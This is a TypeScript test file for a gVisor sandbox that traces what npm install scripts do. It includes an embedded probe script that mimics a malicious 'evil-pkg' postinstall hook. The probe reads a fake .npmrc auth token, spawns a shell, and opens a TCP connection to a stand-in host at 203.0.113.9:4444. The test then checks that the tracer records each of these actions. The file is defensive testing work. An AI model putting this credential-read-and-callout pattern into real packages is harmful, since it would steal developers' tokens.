import { execFileSync, spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { afterAll, describe, expect, it } from 'vitest';
import type { TraceEvent } from '../../types.js';
import { CONTROL_DIR, type SandboxLayout } from '../bwrap-args.js';
import { createNetns, deleteNetns, netnsName } from '../netns.js';
import { which } from '../preflight.js';
import type { SupervisorLine } from '../supervisor-protocol.js';
import { ociMounts, ociSpec } from './oci-bundle.js';
import { runGvisorTraced, runProcesses } from './run-gvisor.js';

const runsc = which('runsc');
const ip = which('ip');
const isRoot = process.getuid?.() === 0;
const skipReason = !runsc
  ? 'runsc (gVisor) is not installed'
  : !ip
    ? 'ip (iproute2) is not installed'
    : !isRoot
      ? 'needs root (network namespace, runsc)'
      : undefined;

const layoutFor = (dir: string): SandboxLayout => ({
  hostname: 'alex-thinkpad',
  user: 'alex',
  home: '/home/alex',
  hostHome: join(dir, 'home'),
  hostEtc: join(dir, 'etc'),
  hostControl: join(dir, 'control'),
  controlDir: CONTROL_DIR,
  cwd: '/home/alex/app',
});

const writeLayout = (dir: string): SandboxLayout => {
  const layout = layoutFor(dir);
  mkdirSync(join(layout.hostHome, 'app'), { recursive: true });
  mkdirSync(layout.hostEtc, { recursive: true });
  mkdirSync(layout.hostControl, { recursive: true });
  writeFileSync(join(layout.hostHome, '.npmrc'), '//registry.npmjs.org/:_authToken=npm_FAKEFAKEFAKE\n');
  writeFileSync(join(layout.hostEtc, 'hostname'), 'alex-thinkpad\n');
  writeFileSync(join(layout.hostEtc, 'hosts'), '127.0.0.1 localhost\n');
  writeFileSync(join(layout.hostEtc, 'resolv.conf'), 'nameserver 127.0.0.1\noptions timeout:1 attempts:1\n');
  writeFileSync(
    join(layout.hostEtc, 'passwd'),
    'root:x:0:0::/root:/bin/sh\nalex:x:1000:1000::/home/alex:/bin/bash\n',
  );
  writeFileSync(join(layout.hostEtc, 'group'), 'root:x:0:\nalex:x:1000:\n');
  writeFileSync(
    join(layout.hostEtc, 'ca-certificates.crt'),
    readFileSync('/etc/ssl/certs/ca-certificates.crt'),
  );
  return layout;
};

describe('ociSpec', () => {
  it('mirrors the bubblewrap view: read-only system, identity files, writable home, unprivileged user', () => {
    const layout = { ...layoutFor('/x'), hostNpmCache: '/cache', npmCacheWritable: true };
    const spec = ociSpec(layout, ['/usr/bin/node', '/opt/devtools/session.mjs'], 1000) as {
      process: { user: { uid: number }; capabilities: Record<string, string[]>; env: string[]; cwd: string };
      root: { readonly: boolean };
      hostname: string;
    };
    expect(spec.process.user.uid).toBe(1000);
    expect(Object.values(spec.process.capabilities).every((caps) => caps.length === 0)).toBe(true);
    expect(spec.process.env).toEqual(['HOME=/home/alex', 'USER=alex', 'PATH=/usr/local/bin:/usr/bin:/bin']);
    expect(spec.process.cwd).toBe('/home/alex/app');
    expect(spec.root.readonly).toBe(true);
    expect(spec.hostname).toBe('alex-thinkpad');
    const mounts = Object.fromEntries(ociMounts(layout).map((m) => [m.destination, m]));
    expect(mounts['/usr']!.options).toContain('ro');
    expect(mounts['/etc/resolv.conf']!.source).toBe('/x/etc/resolv.conf');
    expect(mounts['/etc/ssl/certs/ca-certificates.crt']!.source).toBe('/x/etc/ca-certificates.crt');
    expect(mounts['/home/alex']!.options).toContain('rw');
    expect(mounts['/home/alex/.npm/_cacache']!.options).toContain('rw');
    expect(mounts['/opt/devtools']!.options).toContain('ro');
    expect(mounts['/tmp']!.type).toBe('tmpfs');
    expect(mounts['/root']).toBeUndefined();
  });
});

const PROBE = `
const fs = require('node:fs'), net = require('node:net'), dns = require('node:dns'), cp = require('node:child_process');
const say = (line) => process.stdout.write(JSON.stringify(line) + '\\n');
say({ type: 'phase-start', name: 'import', at: Date.now() });
const secret = fs.readFileSync('/home/alex/.npmrc', 'utf8');
fs.writeFileSync('/home/alex/app/out.txt', 'x');
cp.execFileSync('/bin/sh', ['-c', 'echo hi > /tmp/from-sh'], { env: { npm_package_name: 'evil-pkg', npm_lifecycle_event: 'postinstall' } });
dns.resolve4('probe.invalid', () => {
  const s = net.connect(4444, '203.0.113.9');
  const done = (how) => {
    say({ type: 'phase-end', name: 'import', status: 'ok', startedAt: 0, endedAt: Date.now(), stdout: how + ' ' + process.pid + ' ' + process.getuid() + ' ' + secret.length, stderr: '', lingering: 0 });
    process.exit(0);
  };
  s.setTimeout(500, () => done('timeout'));
  s.on('error', (e) => done(e.code));
  s.on('connect', () => done('connected'));
});
`;

describe.skipIf(skipReason !== undefined)(
  `runGvisorTraced (live${skipReason ? `: skipped, ${skipReason}` : ''})`,
  () => {
    const dir = mkdtempSync('/tmp/bwk-gvisor-test-');
    const netns = netnsName();
    afterAll(async () => {
      await deleteNetns(ip!, netns);
      rmSync(dir, { recursive: true, force: true });
    });

    it('traces the exec, a file read, a child with its environment and a connect, in our namespace; leaves nothing', async () => {
      const layout = writeLayout(dir);
      writeFileSync(join(layout.hostControl, 'probe.js'), PROBE);
      execFileSync('chown', ['-R', '65534:65534', layout.hostHome]);

      await createNetns(ip!, netns);
      // A resolver in the namespace: with --network=host the sandbox's queries must reach it.
      const listener = spawn(
        ip!,
        [
          'netns',
          'exec',
          netns,
          process.execPath,
          '-e',
          `const s = require('node:dgram').createSocket('udp4');
         s.on('message', (m, from) => {
           console.log('query ' + m.subarray(12).toString('latin1').replace(/[^a-z.]+/g, '.'));
           const reply = Buffer.from(m); reply[2] |= 0x80; reply[3] = (reply[3] & 0xf0) | 3;
           s.send(reply, from.port, from.address);
         });
         s.bind(53, '127.0.0.1', () => console.log('ready'));`,
        ],
        { stdio: ['ignore', 'pipe', 'inherit'] },
      );
      const queries: string[] = [];
      await new Promise<void>((resolve) => {
        createInterface({ input: listener.stdout! }).on('line', (line) => {
          if (line === 'ready') resolve();
          else queries.push(line);
        });
      });

      const lines: SupervisorLine[] = [];
      const raw: string[] = [];
      const workDir = join(dir, 'gvisor');
      const started = Date.now();
      const { result, trace } = await runGvisorTraced({
        runsc: runsc!,
        ip: ip!,
        netns,
        layout,
        command: ['/usr/bin/node', `${CONTROL_DIR}/probe.js`],
        workDir,
        timeoutMs: Number(process.env.BWK_GVISOR_TIMEOUT ?? 60_000),
        onSupervisorLine: (line) => lines.push(line),
        onTraceLine: (line) => {
          if (raw.length < 200_000) raw.push(line);
        },
      });
      const elapsed = Date.now() - started;
      listener.kill('SIGKILL');
      if (process.env.BWK_GVISOR_KEEP_LOG)
        writeFileSync(process.env.BWK_GVISOR_KEEP_LOG, `${raw.join('\n')}\n`);

      if (process.env.BWK_GVISOR_DEBUG)
        process.stderr.write(
          `stderr: ${result.stderr}\nrun log: ${readFileSync(join(workDir, 'logs', 'run.txt'), 'utf8').slice(-6000)}\ntrace tail: ${raw.slice(-40).join('\n')}\n`,
        );
      expect({ exit: result.exitCode, timedOut: result.timedOut, cleanedUp: result.cleanedUp }).toEqual({
        exit: 0,
        timedOut: false,
        cleanedUp: true,
      });
      const end = lines.find((line) => line.type === 'phase-end');
      // pid 1 (the container's init), uid 1000, the .npmrc was readable.
      expect(end && end.type === 'phase-end' ? end.stdout : result.stderr).toMatch(/^\w+ 1 1000 \d+$/);
      expect(queries.some((q) => q.includes('probe.invalid'))).toBe(true);

      const root = trace.processes.get(1)!;
      expect(root.execs[0]!.argv).toEqual(['/usr/bin/node', `${CONTROL_DIR}/probe.js`]);
      const child = [...trace.processes.values()].find((p) => p.execs.some((e) => e.path === '/bin/sh'))!;
      expect(child.parent).toBe(1);
      expect(child.execs.at(-1)!.argv).toEqual(['/bin/sh', '-c', 'echo hi > /tmp/from-sh']);
      expect(child.execs.at(-1)!.env.npm_package_name).toBe('evil-pkg');
      expect(child.exit).toBe(0);
      const events = trace.events;
      const open = (path: string) =>
        events.find((e): e is Extract<TraceEvent, { kind: 'open' }> => e.kind === 'open' && e.path === path);
      expect(open('/home/alex/.npmrc')).toMatchObject({ pid: 1, access: 'read', result: { ok: true } });
      expect(open('/home/alex/app/out.txt')).toMatchObject({ access: 'write', result: { ok: true } });
      expect(open('/tmp/from-sh')).toMatchObject({ pid: child.pid, access: 'write' });
      expect(events.find((e) => e.kind === 'connect' && e.address === '203.0.113.9')).toMatchObject({
        family: 'inet',
        port: 4444,
        transport: 'tcp',
      });
      expect(trace.unparsed).toEqual([]);
      // Written through the gofer as the sandbox user.
      expect(statSync(join(layout.hostHome, 'app', 'out.txt')).uid).toBe(1000);
      expect(runProcesses(join(workDir, 'state'))).toEqual([]);
      process.stderr.write(
        `gVisor live run: ${elapsed} ms, ${raw.length} log lines, ${events.length} events\n`,
      );

      expect(await deleteNetns(ip!, netns)).toBe(true);
      expect(existsSync(join('/run/netns', netns))).toBe(false);
    }, 90_000);

    it('ends the container, its detached children and runsc at the hard limit', async () => {
      const hangDir = join(dir, 'hang');
      const layout = writeLayout(hangDir);
      execFileSync('chown', ['-R', '65534:65534', layout.hostHome]);
      const ns = netnsName();
      await createNetns(ip!, ns);
      try {
        const workDir = join(hangDir, 'gvisor');
        const started = Date.now();
        const { result, trace } = await runGvisorTraced({
          runsc: runsc!,
          ip: ip!,
          netns: ns,
          layout,
          command: ['/bin/sh', '-c', 'sleep 300 & sleep 300'],
          workDir,
          timeoutMs: 1_500,
          onSupervisorLine: () => {},
        });
        expect(result).toMatchObject({ timedOut: true, cleanedUp: true });
        expect(Date.now() - started).toBeLessThan(15_000);
        expect(runProcesses(join(workDir, 'state'))).toEqual([]);
        expect([...trace.processes.values()].some((p) => p.execs.some((e) => e.argv[0] === 'sleep'))).toBe(
          true,
        );
      } finally {
        expect(await deleteNetns(ip!, ns)).toBe(true);
      }
    }, 30_000);
  },
);
